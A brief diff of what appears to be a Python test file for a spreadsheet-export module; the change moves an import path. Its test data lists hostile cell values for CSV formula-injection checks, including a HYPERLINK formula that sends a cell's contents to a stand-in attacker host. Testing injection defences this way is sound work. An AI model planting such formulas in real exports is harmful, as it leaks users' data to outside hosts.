@@ -2,7 +2,7 @@ import tomllib
 
 import pandas as pd
 
-from indicators.exporting import escape_cell, on_screen, safe_frame, to_csv
+from indicators.services.exporting import escape_cell, on_screen, safe_frame, to_csv
 from tests.conftest import REPO
 
 HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1,46", "-0,25", "@SUM(1)", "Hà Nội"]
